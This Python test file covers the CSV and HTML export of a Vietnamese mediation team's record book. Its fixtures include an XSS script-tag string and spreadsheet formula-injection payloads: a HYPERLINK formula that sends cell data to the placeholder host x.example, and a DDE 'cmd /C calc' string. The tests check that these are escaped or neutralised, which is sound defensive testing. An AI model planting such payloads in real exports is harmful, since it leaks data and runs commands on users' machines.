"""Rendering the record book (services/mediation/recordbook.py): the official form's columns, and text typed by
users that cannot break the printable document."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

from services.mediation import recordbook
from services.mediation.domain import CaseFile, Party

BOOK = {
    "team_id": "t1", "team_name": "Tổ hòa giải Trần Phú", "group_id": "g1", "year": 2025,
    "part_i": [{
        "stt": 1, "case_id": "c1", "date_received": "03/02/2025", "mediators_and_invitees": "Phạm Thị Lan",
        "parties": "A; B", "kind": "neighbours", "content": "<script>alert('x')</script> lối đi, \"chung\"",
        "agreement_or_demands": "Mở lối đi", "result": "Thành", "status": "succeeded", "notes": "",
    }],
    "part_ii": {
        "received": 1, "succeeded": 1, "failed": 0, "withdrawn": 0, "refused": 0, "in_progress": 0,
        "by_kind": {"family": {"received": 0, "succeeded": 0, "failed": 0},
                    "neighbours": {"received": 1, "succeeded": 1, "failed": 0},
                    "property_or_land_boundary": {"received": 0, "succeeded": 0, "failed": 0},
                    "other_civil": {"received": 0, "succeeded": 0, "failed": 0}},
        "by_mediator": [{"mediator_id": "r-lan", "full_name": "Phạm Thị Lan", "cases": 1, "succeeded": 1,
                         "failed": 0}],
    },
}


def test_part_i_has_the_official_forms_columns_in_order() -> None:
    assert [label for _, label in recordbook.PART_I_COLUMNS] == [
        "STT", "Ngày, tháng, năm nhận vụ việc", "Họ tên hòa giải viên / người được mời tham gia hòa giải",
        "Họ tên các bên", "Nội dung vụ việc", "Thỏa thuận hoặc yêu cầu của các bên", "Kết quả (Thành / Không thành)",
        "Ghi chú"]


def test_csv_keeps_commas_and_quotes_in_a_cell_and_opens_in_spreadsheets() -> None:
    text = recordbook.to_csv(BOOK)
    assert text.startswith("\ufeff")  # the BOM that spreadsheet software needs for Vietnamese
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[1][4] == BOOK["part_i"][0]["content"]
    assert ["mediator:Phạm Thị Lan", "1", "1", "0"] in rows


def test_the_printable_document_escapes_what_users_typed_and_prints_landscape() -> None:
    html = recordbook.to_html(BOOK)
    assert "<script>" not in html and "&lt;script&gt;" in html
    assert "@page { size: A4 landscape" in html and "@media print" in html
    assert "<td>Mâu thuẫn hàng xóm</td><td>1</td><td>1</td>" in html


def test_csv_neutralises_cells_that_a_spreadsheet_would_run_as_formulas() -> None:
    hostile = {**BOOK["part_i"][0], "parties": "=HYPERLINK(\"http://x.example/?\"&A1,\"Bình\"); Cường",
               "content": "+cmd|' /C calc'!A0", "agreement_or_demands": "-2+3", "mediators_and_invitees": "@SUM(1)",
               "notes": "\tghi chú", "result": "\r=1"}
    book = {**BOOK, "part_i": [hostile], "part_ii": {**BOOK["part_ii"], "by_mediator": []}}
    rows = list(csv.reader(io.StringIO(recordbook.to_csv(book).lstrip("\ufeff"))))
    row = dict(zip([key for key, _ in recordbook.PART_I_COLUMNS], rows[1], strict=True))
    for key in ("parties", "content", "agreement_or_demands", "mediators_and_invitees", "notes", "result"):
        assert row[key] == "'" + hostile[key]  # neutralised, and otherwise intact
    assert row["stt"] == "1" and ["received", "1"] in rows  # numbers stay numbers


def test_the_book_is_built_from_loaded_cases_without_a_database() -> None:
    case = {"case_id": "c1", "received_on": date(2025, 2, 3), "received_at": datetime(2025, 2, 3, 1, tzinfo=UTC),
            "kind": "neighbours", "summary": "Lối đi", "status": "failed", "origin": "referral", "agreement": None,
            "carry_out_how": None, "carry_out_by": None, "demands": "Bồi thường", "refusal_reason": None,
            "directed_to": "Tòa án", "withdrawal_reason": None}
    file = CaseFile(case, [Party("A"), Party("B")],
                    [{"mediator_id": "r-lan", "full_name": "Phạm Thị Lan"}],
                    [{"invitees": [{"name": "Cụ Tư", "relation": "người có uy tín"}]}], [])
    book = recordbook.build({"team_id": "t1", "name": None, "group_id": "g1"}, 2025, [file])
    [row] = book["part_i"]
    assert row["mediators_and_invitees"] == "Phạm Thị Lan; Cụ Tư (người có uy tín)" and row["parties"] == "A; B"
    assert row["result"] == "Không thành" and row["notes"] == "Chuyển từ tin báo; Hướng dẫn đến: Tòa án"
    assert book["part_ii"]["by_mediator"] == [{"mediator_id": "r-lan", "full_name": "Phạm Thị Lan", "cases": 1,
                                               "succeeded": 0, "failed": 1}]
